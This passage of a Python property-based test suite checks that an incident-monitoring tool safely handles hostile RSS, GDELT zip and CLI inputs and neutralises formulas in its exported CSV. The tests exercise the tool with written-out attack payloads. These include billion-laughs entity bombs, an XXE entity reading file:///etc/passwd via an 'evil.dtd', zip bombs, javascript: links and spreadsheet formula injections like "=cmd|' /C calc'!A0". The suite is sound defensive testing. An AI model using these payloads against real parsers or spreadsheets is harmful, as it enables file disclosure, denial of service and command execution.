        if draw(st.integers(0, 4)):
            parts.append(f"<pubDate>{draw(st.sampled_from(RSS_DATES[:2] * 3 + RSS_DATES))}"
                         "</pubDate>")
        if draw(st.booleans()):
            parts.append(f"<georss:point>{draw(st.sampled_from(RSS_POINTS))}</georss:point>")
        if draw(st.booleans()):
            description = draw(st.sampled_from(SHORT_HOSTILE_TEXT))
            parts.append(f"<description>{xml_text(description)}</description>")
        if draw(st.booleans()):
            link = draw(st.sampled_from(["https://news.example.org/a", "javascript:alert(1)",
                                         "=cmd", ""]))
            parts.append(f"<link>{xml_text(link)}</link>")
        items.append("<item>" + "".join(parts) + "</item>")
    entities = draw(st.booleans())
    doctype = draw(st.sampled_from(ENTITY_DOCTYPES if entities else PLAIN_DOCTYPES))
    encoding, codec = draw(st.sampled_from(RSS_ENCODINGS))
    doc = (f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}\n'
           '<rss version="2.0" xmlns:georss="http://www.georss.org/georss"><channel>'
           f'<title>wire</title>{"".join(items)}</channel></rss>')
    # UTF-8 keeps the bytes that are not UTF-8 (INVALID_UTF8); other codecs write "?"
    data = doc.encode(codec, "surrogateescape" if codec == "utf-8" else "replace")
    if draw(st.booleans()):  # sometimes broken: cut short (the DOCTYPE may be cut too)
        return data[: draw(st.integers(0, len(data)))], False
    return data, entities


def poll_rss(pack: Pack, data: bytes) -> None:
    """One poll of a local RSS file: SourceError or batches, recorded; the ledger stays whole."""
    with fresh(pack) as (monitor, ledger, tmp):
        (tmp / "wire.xml").write_bytes(data)
        spec = FeedSpec(name="wire", adapter="rss", source="wire.xml", reliability="D")
        try:
            batches = list(RssAdapter(spec, tmp).batches({}, HttpFetcher(spec, tmp)))
        except SourceError as exc:
            assert str(exc).startswith("wire.xml: ")
            label("RSS: SourceError " + re.sub(r"\(.*", "", str(exc))[10:40])
            return
        result = submit_batches(monitor, spec, batches)
        label(f"RSS: entries, {min(len(result.outcomes), 2)}+ stored")
        items = [i for b in batches for i in b.items]
        assert len(result.outcomes) + len(result.rejections) == len(items)
        assert_rejections_explained(result.rejections, "wire.xml entry ")
        assert_whole(ledger, result.outcomes)


@settings(HOSTILE, max_examples=40 * SCALE, deadline=2000)
@given(rss_documents())
def test_rss_documents_are_entries_or_source_errors_and_entities_always_refused(doc):
    pack = THE_PACK[0]
    data, declares_entities = doc
    if declares_entities:  # refused, whatever the encoding hides the DOCTYPE in (or refused
        # before parsing as undecodable: utf-7 "+3P8-" is a lone surrogate)
        spec = FeedSpec(name="wire", adapter="rss", source="wire.xml")
        with tempfile.TemporaryDirectory() as tmp:
            (Path(tmp) / "wire.xml").write_bytes(data)
            with pytest.raises(SourceError, match=r"declares XML entities|not a readable feed "
                                                  r"\(UnicodeEncodeError"):
                list(RssAdapter(spec, Path(tmp)).batches({}, HttpFetcher(spec, Path(tmp))))
    poll_rss(pack, data)


@settings(HOSTILE, max_examples=60 * SCALE, deadline=2000)
@given(st.binary(max_size=3000))
def test_random_bytes_as_rss_are_a_source_error_or_entries(data):
    pack = THE_PACK[0]
    poll_rss(pack, data)


BOMB = (FIXTURES / "rss" / "billion_laughs.xml").read_bytes()
XXE = (FIXTURES / "rss" / "external_entity.xml").read_bytes()
GEORSS = (FIXTURES / "rss" / "georss.xml").read_bytes()


@settings(HOSTILE, max_examples=40 * SCALE, deadline=2000)
@given(st.sampled_from([BOMB, XXE, GEORSS, BOMB.decode().encode("utf-32-le"),
                        BOMB.decode().replace("<?xml version=\"1.0\"?>",
                                              '<?xml version="1.0" encoding="cp037"?>')
                        .encode("cp037")]),
       st.lists(st.tuples(st.integers(0, 10**6), st.sampled_from(["insert", "delete", "set"]),
                          st.binary(min_size=1, max_size=3)), min_size=1, max_size=4))
def test_mutated_entity_bombs_never_crash_or_hang(doc, edits):
    pack = THE_PACK[0]
    data = bytearray(doc)
    for position, op, chunk in edits:
        at = position % (len(data) + 1)
        if op == "insert":
            data[at:at] = chunk
        elif op == "delete":
            del data[at:at + len(chunk)]
        else:
            data[at:at + len(chunk)] = chunk
    started = time.perf_counter()
    poll_rss(pack, bytes(data))
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize("codec,declared", [("utf-32-le", "utf-32"), ("utf-32-be", "utf-32"),
                                            ("cp037", "cp037"), ("cp500", "cp500"),
                                            ("utf-7", "utf-7")])
def test_entities_hidden_by_the_encoding_are_refused_too(tmp_path, codec, declared):
    """The prolog check read the raw bytes while feedparser decoded them (UTF-32 and EBCDIC
    sniffed without a BOM, any codec an XML declaration names): a 400 kB UTF-32 document
    with one 100 kB entity used 2,000 times would take 650 MB."""
    doc = (f'<?xml version="1.0" encoding="{declared}"?>\n<!DOCTYPE rss [\n<!ENTITY a "'
           + "a" * 100_000 + '">\n]>\n<rss version="2.0"><channel><item><title>t</title>'
           "<description>" + "&a;" * 2000 + "</description><guid>1</guid>"
           "<pubDate>Wed, 10 Aug 2016 10:00:00 GMT</pubDate></item></channel></rss>")
    data = doc.encode(codec)
    if codec == "utf-7":  # utf-7 may spell '<' as '+ADw-'
        data = data.replace(b"<!", b"+ADw-!")
    (tmp_path / "wire.xml").write_bytes(data)
    spec = FeedSpec(name="wire", adapter="rss", source="wire.xml")
    started = time.perf_counter()
    with pytest.raises(SourceError, match="declares XML entities"):
        list(RssAdapter(spec, tmp_path).batches({}, HttpFetcher(spec, tmp_path)))
    assert time.perf_counter() - started < 2


def test_a_utf7_document_decoding_to_a_lone_surrogate_is_a_source_error(tmp_path):
    """feedparser decodes utf-7's "+3P8-" to a lone surrogate and then cannot re-encode it:
    a UnicodeEncodeError escaped the poll."""
    (tmp_path / "wire.xml").write_bytes(
        b'<?xml version="1.0" encoding="utf-7"?><rss version="2.0"><channel><title>t</title>'
        b"<item><title>+3P8-</title><guid>1</guid></item></channel></rss>")
    spec = FeedSpec(name="wire", adapter="rss", source="wire.xml")
    with pytest.raises(SourceError, match="not a readable feed .UnicodeEncodeError"):
        list(RssAdapter(spec, tmp_path).batches({}, HttpFetcher(spec, tmp_path)))


def test_external_dtds_and_entities_are_never_fetched(tmp_path):
    log: list[str] = []
    dtd = b'<!ENTITY leak SYSTEM "file:///etc/passwd">'
    with serve({"__log__": log, "/evil.dtd": (200, dtd, {})}) as base:
        docs = {
            "public.xml": f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{base}/evil.dtd">'
                          '<rss version="2.0"><channel><item><title>t</title><guid>1</guid>'
                          '<pubDate>Wed, 10 Aug 2016 10:00:00 GMT</pubDate></item></channel>'
                          '</rss>',
            "param.xml": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % e SYSTEM '
                         f'"{base}/evil.dtd"> %e;]><rss version="2.0"><channel><item>'
                         '<title>&leak;</title></item></channel></rss>',
        }
        outcomes = {}
        for name, doc in docs.items():
            (tmp_path / name).write_text(doc)
            spec = FeedSpec(name="wire", adapter="rss", source=name)
            try:
                outcomes[name] = list(RssAdapter(spec, tmp_path).batches(
                    {}, HttpFetcher(spec, tmp_path)))
            except SourceError as exc:
                outcomes[name] = str(exc)
    assert log == []  # neither the DTD nor the entity was fetched
    assert "declares XML entities" in outcomes["param.xml"]
    assert [i[1]["notes"] for b in outcomes["public.xml"] for i in b.items] == ["t"]


# === GDELT ===================================================================================

GDELT_OK = {c: "" for c in GDELT_COLUMNS} | {
    "GLOBALEVENTID": "1", "SQLDATE": "20160919", "EventCode": "195", "EventBaseCode": "195",
    "EventRootCode": "19", "ActionGeo_Type": "4", "ActionGeo_CountryCode": "SY",
    "ActionGeo_FullName": "Aleppo, Halab, Syria", "ActionGeo_Lat": "36.2021",
    "ActionGeo_Long": "37.1343", "Actor1Name": "SYRIA", "Actor2Name": "REBEL",
    "SOURCEURL": "https://news.example.org/a"}
GDELT_POISON = {"SQLDATE": ["99991231", "00010101", "2016091", "20161301", "", "nan"],
                "ActionGeo_Lat": NOT_FINITE[:-1] + ["thirty", "95"],
                "GLOBALEVENTID": [""]}
# TSV cells: anything but the separators
gdelt_cell = st.one_of(st.sampled_from([c for c in HOSTILE_TEXT if not re.search(
    r"[\t\r\n\u2028\x85]", c)]), st.text(st.characters(blacklist_characters="\t\r\n"),
                                          max_size=20))


@st.composite
def gdelt_lines(draw: Any) -> tuple[str, str]:
    """One export line and its kind (pristine, poison, unknown; filtered rows are unknown)."""
    if draw(st.integers(0, 5)) == 0:  # not 61 columns
        cells = draw(st.lists(gdelt_cell, min_size=1, max_size=70).filter(
            lambda c: len(c) != 61))
        line = "\t".join(cells)
        return line, "poison" if line else "blank"  # an empty line is no record
    row = dict(GDELT_OK, GLOBALEVENTID=str(draw(st.integers(1, 10**9))))
    kind = "pristine"
    if draw(st.booleans()):
        column = draw(st.sampled_from(sorted(GDELT_POISON)))
        row[column] = draw(st.sampled_from(GDELT_POISON[column]))
        kind = "poison"
    mutations = draw(st.dictionaries(st.sampled_from(GDELT_COLUMNS), gdelt_cell, max_size=2))
    if mutations:
        row.update(mutations)
        kind = "unknown"
    return "\t".join(row[c] for c in GDELT_COLUMNS), kind


def gdelt_zip(member: bytes, method: int, name: str = "20160919120000.export.CSV") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(name, member)
    return buffer.getvalue()


def poll_gdelt(pack: Pack, archive: bytes, max_bytes: int = 200_000_000
               ) -> tuple[list[Batch] | str, BatchResult]:
    """One poll of a local GDELT mirror whose lastupdate.txt names ``archive`` (md5 right)."""
    with fresh(pack) as (monitor, ledger, tmp):
        name = "20160919120000.export.CSV.zip"
        (tmp / name).write_bytes(archive)
        (tmp / "lastupdate.txt").write_text(
            f"{len(archive)} {hashlib.md5(archive).hexdigest()} {name}\n")
        spec = FeedSpec(name="gdelt", adapter="gdelt", source="lastupdate.txt",
                        reliability="C", max_bytes=max_bytes)
        try:
            batches = list(GdeltAdapter(spec, tmp).batches({}, HttpFetcher(spec, tmp)))
        except SourceError as exc:
            assert str(exc).startswith(name)
            label("GDELT: SourceError " + str(exc)[len(name) + 2:][:30])
            return str(exc), BatchResult()
        result = submit_batches(monitor, spec, batches)
        label(f"GDELT: read, {min(len(result.outcomes), 2)}+ stored")
        assert_rejections_explained(result.rejections, f"{name} line ")
        assert_whole(ledger, result.outcomes)
        return batches, result


@settings(HOSTILE, max_examples=20 * SCALE)
@given(st.lists(gdelt_lines(), max_size=8),
       st.sampled_from([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED, zipfile.ZIP_BZIP2,
                        zipfile.ZIP_LZMA]),
       st.sampled_from(INVALID_UTF8 + [""]))
def test_gdelt_export_lines_are_reports_rejections_or_filtered(lines, method, garbage):
    pack = THE_PACK[0]
    text = "\n".join(line for line, _ in lines)
    if garbage and lines:  # a byte that is not UTF-8 in the last line: decoded as U+FFFD
        text += garbage
    archive = gdelt_zip(text.encode("utf-8", "surrogateescape"), method)
    batches, result = poll_gdelt(pack, archive)
    assert isinstance(batches, list)
    items = {(i.where if isinstance(i, Rejection) else i[0]): i
             for b in batches for i in b.items}
    assert len(result.outcomes) + len(result.rejections) == len(items)
    rejected = {r.where for r in result.rejections}
    for n, (_, kind) in enumerate(lines, start=1):
        where = f"20160919120000.export.CSV.zip line {n}"
        if kind == "poison":
            assert where in rejected, (n, items.get(where))
        elif kind == "pristine" and not (garbage and n == len(lines)):
            assert where in items and where not in rejected, (n, items.get(where))


def corrupt(data: bytes, edits: list[tuple[int, bytes]]) -> bytes:
    out = bytearray(data)
    for position, chunk in edits:
        at = position % max(len(out), 1)
        out[at:at + len(chunk)] = chunk
    return bytes(out)


ZIP_OK = gdelt_zip("\t".join(GDELT_OK[c] for c in GDELT_COLUMNS).encode(), zipfile.ZIP_DEFLATED)


def flags(archive: bytes, *, method: int | None = None, encrypted: bool = False) -> bytes:
    """The archive with its member's compression method or encryption flag rewritten."""
    data = bytearray(archive)
    local, central = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    if encrypted:
        data[local + 6] |= 1
        data[central + 8] |= 1
    if method is not None:
        code = method.to_bytes(2, "little")
        data[local + 8:local + 10] = data[central + 10:central + 12] = code
    return bytes(data)


@settings(HOSTILE, max_examples=40 * SCALE)
@given(st.one_of(
    st.binary(max_size=400),
    st.builds(corrupt, st.sampled_from([ZIP_OK, gdelt_zip(b"x" * 5000, zipfile.ZIP_BZIP2),
                                        gdelt_zip(b"y" * 5000, zipfile.ZIP_LZMA)]),
              st.lists(st.tuples(st.integers(0, 10**5), st.binary(min_size=1, max_size=4)),
                       min_size=1, max_size=3)),
    st.builds(gdelt_zip, st.binary(max_size=300),
              st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])),
    st.sampled_from([flags(ZIP_OK, encrypted=True), flags(ZIP_OK, method=99),
                     flags(ZIP_OK, method=6), flags(ZIP_OK, method=97), b"", b"PK\x05\x06"
                     + b"\x00" * 18, gdelt_zip(b"", zipfile.ZIP_STORED, "readme.txt")])))
def test_gdelt_zips_of_any_content_are_rows_or_a_source_error(archive):
    """Encrypted members and unsupported compression methods are a source error, not a crash."""
    pack = THE_PACK[0]
    poll_gdelt(pack, archive)


def test_a_gdelt_zip_bomb_is_refused_by_its_declared_size(pack):
    bomb = gdelt_zip(b"\t" * 5_000_000, zipfile.ZIP_DEFLATED)
    outcome, _ = poll_gdelt(pack, bomb, max_bytes=1_000_000)
    assert isinstance(outcome, str) and "over the feed's max_bytes" in outcome
    # a central directory that under-states the size: read to the stated size, CRC fails
    lying = bytearray(bomb)
    central = lying.find(b"PK\x01\x02")
    lying[central + 24:central + 28] = (1000).to_bytes(4, "little")
    outcome, _ = poll_gdelt(pack, bytes(lying), max_bytes=1_000_000)
    assert isinstance(outcome, str) and "unreadable" in outcome


def lzma_corrupted() -> bytes:
    data = bytearray(gdelt_zip(b"y" * 5000, zipfile.ZIP_LZMA))
    data[30 + len("20160919120000.export.CSV") + 10] ^= 0xFF  # inside the LZMA stream
    return bytes(data)


def empty_member_name() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(""), b"x")
    return buffer.getvalue()


@pytest.mark.parametrize("archive,reason", [
    (flags(ZIP_OK, encrypted=True), "RuntimeError: File .* is encrypted"),
    (flags(ZIP_OK, method=99), "NotImplementedError"),
    (lzma_corrupted(), "LZMAError"),
    (empty_member_name(), "not a readable zip archive"),
], ids=["encrypted", "aes-method-99", "lzma-corrupt", "empty-member-name"])
def test_zips_zipfile_raises_odd_errors_on_are_source_errors(pack, archive, reason):
    """RuntimeError, NotImplementedError, LZMAError and IndexError escaped the poll."""
    outcome, _ = poll_gdelt(pack, archive)
    assert isinstance(outcome, str) and re.search(reason, outcome), outcome


# === monitor incident add ====================================================================


@contextlib.contextmanager
def cli(pack: Pack) -> Iterator[Any]:
    """Invoke the CLI on a fresh ledger file; the pack is loaded once (not per command)."""
    with tempfile.TemporaryDirectory() as tmp, \
            mock.patch.object(config_module, "load_pack", lambda *a, **k: pack):
        db = Path(tmp) / "ledger.db"

        def invoke(*args: str, input: str | bytes | None = None) -> Any:
            result = CliRunner(env={"COLUMNS": "200"}).invoke(
                main, ["--db", str(db), *args], input=input, catch_exceptions=True)
            # never a traceback: a clean exit, or a message and exit status 1 (2: usage)
            assert result.exception is None or isinstance(result.exception, SystemExit), (
                args, result.exc_info)
            assert result.exit_code in (0, 1, 2), result.output
            if result.exit_code:
                assert result.output.strip(), args
            return result

        invoke.db = db  # type: ignore[attr-defined]
        yield invoke


def assert_cli_ledger_whole(db: Path) -> int:
    if not db.exists():
        return 0
    ledger = Ledger.open(db, readonly=True)
    try:
        assert ledger.verify().ok
        rows = ledger.query("SELECT report_key, body FROM reports")
        for row in rows:
            IncidentReport.model_validate(json.loads(row["body"]))
        assert len(ledger.query("SELECT 1 FROM incidents")) == len(rows)
        return len(rows)
    finally:
        ledger.close()


# Text without '[': rich reads '[/x]' in a printed source id or actor name as markup and
# crashes (a bug in cli.py, pinned by test_cli_prints_hostile_names_without_crashing below).
no_markup = st.text(st.characters(blacklist_categories=("Cs",)),
                    max_size=15)
cli_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-10**6, 10**6),
              st.floats(allow_nan=True, allow_infinity=True), no_markup,
              st.sampled_from([s for s in SHORT_HOSTILE_TEXT
                               if not has_invalid_bytes(s)])),
    lambda inner: st.one_of(st.lists(inner, max_size=3),
                            st.dictionaries(no_markup, inner, max_size=3)), max_leaves=6)
report_keys = st.sampled_from(["source_id", "occurred", "occurred_end", "location", "attacker",
                               "target", "attacker_side", "event_type", "platform", "notes",
                               "casualties_min", "feed", "revision", "sources", "reliability"])
report_like = st.builds(lambda extra: {**JSONL_BASE, **extra},
                        st.dictionaries(report_keys, cli_values, max_size=2))
cli_records = st.one_of(
    report_like, report_like,
    st.builds(lambda sid: {**JSONL_BASE, "source_id": sid}, no_markup.filter(str.strip)),
    st.fixed_dictionaries({}, optional={k: cli_values for k in ("source_id", "occurred")}),
    cli_values)


@settings(HOSTILE, max_examples=20 * SCALE)
@given(st.one_of(cli_records, st.lists(cli_records, max_size=3)))
def test_incident_add_json_of_any_shape_never_tracebacks(data):
    pack = THE_PACK[0]
    text = json.dumps(data)  # NaN and Infinity as json's raw tokens
    records = data if isinstance(data, list) else [data]
    with cli(pack) as invoke:
        result = invoke("incident", "add", "--json", "-", input=text)
        stored = assert_cli_ledger_whole(invoke.db)
        label(f"incident add --json: exit {result.exit_code}, {min(stored, 2)}+ stored")
        rejected = re.findall(r"(?m)^rejected <stdin> item \d+: .", result.output)
        if result.exit_code == 0:  # all in (two records may be one report: a duplicate)
            assert min(1, len(records)) <= stored <= len(records) and not rejected
        else:
            assert result.exit_code == 1 and rejected, result.output
            assert stored < len(records)


FLAG_VALUES = {
    "--occurred": ["2016-08-10", "9999-12-31", "0001-01-01", "9998-12-31", "2016-08-10T14:00",
                   "2016-08-10T14:00+03:00", "2016-02-30", "yesterday", "=cmd|' /C calc'!A0"],
    "--lat": ["nan", "inf", "-inf", "1e309", "95", "35.614", "-0", "abc"],
    "--lon": ["nan", "36.562", "-1e309", "181"],
    "--precision": ["1", "3", "0", "8"],
    "--place": ["Kafr Nabl", "x" * 600, "=HYPERLINK(1)", " "],
    "--attacker": ["Military Forces of Syria (2000-)", "x" * 600, "=1+1", "\u202eevil"],
    "--target": ["Civilians (Syria)", "@SUM(1)"],
    "--event-type": ["air_strike", "nuke"],
    "--notes": [KB100[:30_000], "=cmd|' /C calc'!A0", "\x00\x1b[2J", "-inf"],
    "--source-id": ["=cmd|' /C calc'!A0", "x" * 600, "a:b", "\t", "+1"],
    "--source": ["x" * 2001, "https://news.example.org/a"],
}


@settings(HOSTILE, max_examples=25 * SCALE)
@given(st.lists(st.sampled_from(sorted(FLAG_VALUES)), unique=True, max_size=6)
       .flatmap(lambda keys: st.tuples(*[st.tuples(st.just(k), st.sampled_from(FLAG_VALUES[k]))
                                         for k in ["--occurred", *keys]])))
def test_incident_add_flags_holding_hostile_values_never_traceback(chosen):
    pack = THE_PACK[0]
    args = ["incident", "add"]
    for flag, value in chosen:
        args += [flag, value]
    with cli(pack) as invoke:
        result = invoke(*args, input="")
        stored = assert_cli_ledger_whole(invoke.db)
        label(f"incident add flags: exit {result.exit_code}")
        assert stored == (1 if result.exit_code == 0 else 0)
        if dict(chosen)["--occurred"] in ("9999-12-31", "0001-01-01"):
            assert result.exit_code != 0


@pytest.mark.parametrize("text", ["[" * 100_000, '{"n": ' + "1" * 5000 + "}"],
                         ids=["deep", "bigint"])
def test_incident_add_json_that_json_cannot_hold_is_a_message(pack, text):
    with cli(pack) as invoke:
        result = invoke("incident", "add", "--json", "-", input=text)
        assert result.exit_code == 1 and "not valid JSON" in result.output


@pytest.mark.parametrize("record", [{"source_id": "[/x]"}, {"attacker": "[bold]x[/i]"}],
                         ids=["source-id", "actor"])
def test_cli_prints_hostile_names_without_crashing(pack, record):
    with cli(pack) as invoke:
        invoke("incident", "add", "--json", "-",
               input=json.dumps({"source_id": "s", "occurred": "2016-08-10", **record}))


def test_import_prints_a_rejection_quoting_markup_without_crashing(pack, tmp_path):
    path = tmp_path / "markup.csv"
    path.write_bytes(csv_bytes([ACLED_COLUMNS, [{**KAFR_NABL, "event_date": "[/x]"}.get(c, "")
                                                for c in ACLED_COLUMNS]]))
    with cli(pack) as invoke:
        invoke("import", str(path), "--format", "acled")


def hostile_import_files(folder: Path) -> dict[str, tuple[Path, int]]:
    """An ACLED export and a JSON Lines file, one hostile value per row (rich markup like
    '[/x]' included), with the number of rows that are valid reports."""
    markup_free = list(HOSTILE_TEXT)
    rows = []
    for n, value in enumerate(markup_free):
        row = {**KAFR_NABL, "event_id_cnty": f"SYR{n}",
               ACLED_COLUMNS[n % len(ACLED_COLUMNS)]: value}
        rows.append([row.get(c, "") for c in ACLED_COLUMNS])
    acled = folder / "hostile.csv"
    acled.write_bytes(csv_bytes([ACLED_COLUMNS, *rows]))
    valid_acled = sum(isinstance(validate(i[1], i[0]), IncidentReport)
                      for i in read_csv(acled) if not isinstance(i, Rejection))
    lines = [json.dumps({**JSONL_BASE, "source_id": f"p-{n}", key: value}).encode()
             for n, (key, value) in enumerate(JSONL_POISON)]
    lines += RAW_POISON + [json.dumps({**JSONL_BASE, "source_id": "ok"}).encode()]
    jsonl = folder / "hostile.jsonl"
    jsonl.write_bytes(b"\n".join(lines) + b"\n")
    return {"acled": (acled, valid_acled), "jsonl": (jsonl, 1)}


def test_monitor_import_of_hostile_files_reports_each_bad_row_and_keeps_the_rest(pack, tmp_path):
    files = hostile_import_files(tmp_path)
    with cli(pack) as invoke:
        stored = 0
        for fmt, (path, valid) in files.items():
            result = invoke("import", str(path), "--format", fmt)
            assert result.exit_code == 1 and "the others were recorded" in result.output
            rejected = re.findall(rf"(?m)^rejected {re.escape(path.name)} line \d+: .",
                                  result.output)
            total = len(list(read_csv(path) if fmt == "acled" else read_file(path)))
            assert len(rejected) == total - valid
            stored += valid
            assert assert_cli_ledger_whole(invoke.db) == stored
            again = invoke("import", str(path), "--format", fmt)  # nothing twice
            assert f"0 new report(s), {valid} already recorded" in again.output
        assert stored > 5


# === exported CSV ============================================================================

LEADS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r\n=", "-1+", "+-"]
formula_text = st.one_of(st.sampled_from(FORMULAS),
                         st.builds(str.__add__, st.sampled_from(LEADS), st.text(max_size=12)))
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def assert_no_formula_cells(text: str) -> int:
    cells = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            cells += 1
            assert not cell.startswith(FORMULA_LEAD) or PLAIN_NUMBER.fullmatch(cell), cell
    return cells


@settings(HOSTILE, max_examples=300 * SCALE)
@given(st.one_of(st.text(max_size=20), formula_text, st.integers(), st.floats(),
                 st.lists(formula_text, max_size=2), st.dictionaries(formula_text, formula_text,
                                                                      max_size=2)))
def test_safe_csv_cell_never_leads_with_a_formula_and_loses_nothing(value):
    cell = safe_csv_cell(value)
    assert not cell.startswith(FORMULA_LEAD) or PLAIN_NUMBER.fullmatch(cell)
    if isinstance(value, str):
        assert cell in (value, "'" + value)


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
    """The csv module quoted only the terminator's characters ("\n"): "Kafr Nabl\r=cmd|..."
    went out unquoted, and a spreadsheet put "=cmd|..." in a cell at the start of a row."""
    text = render([{"place": "Kafr Nabl\r=cmd|' /C calc'!A0", "notes": "\r-inf"}], "csv")
    assert text == 'place,notes\n"Kafr Nabl\r=cmd|\' /C calc\'!A0","\'\r-inf"\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["place", "notes"], ["Kafr Nabl\r=cmd|' /C calc'!A0", "'\r-inf"]]


@settings(HOSTILE, max_examples=8 * SCALE)
@given(st.lists(st.tuples(formula_text, formula_text, st.booleans()), min_size=1, max_size=3))
def test_exported_csv_neutralises_formula_leading_cells(hostile):
    pack = THE_PACK[0]
    with cli(pack) as invoke:
        ledger = Ledger.open(invoke.db, clock=Clock())
        monitor_ = Monitor(pack, ledger, clock=Clock())
        records = []
        for n, (text, other, own_feed) in enumerate(hostile):
            records.append((f"record {n}", {
                **JSONL_BASE, "feed": f"{other}{n}" if own_feed else "manual",
                "source_id": f"{text}#{n}", "notes": text, "sources": [other],
                "location": {**JSONL_BASE["location"], "place": f"{other} town"},
                "attacker": ["Military Forces of Syria (2000-)"], "platform": "helicopter",
                "target": ["Civilians (Syria)"], "target_category": "market"}))
        result = monitor_.submit(records)
        ledger.close()
        assert result.findings, result.rejections  # findings to export, carrying the ids
        for args in (["findings", "--format", "csv"], ["incidents", "--format", "csv"],
                     ["query", "SELECT * FROM reports", "--format", "csv"],
                     ["query", ("SELECT source_id, json_extract(body, '$.notes') AS notes, "
                                "feed, '-inf' AS x, -1.5 AS y FROM reports"), "--format", "csv"],
                     ["query", "SELECT * FROM findings", "--format", "csv"],
                     ["query", "SELECT * FROM reviews", "--format", "csv"]):
            out = invoke(*args)
            assert out.exit_code == 0, out.output
            assert assert_no_formula_cells(out.output) > 0
        assert_cli_ledger_whole(invoke.db)
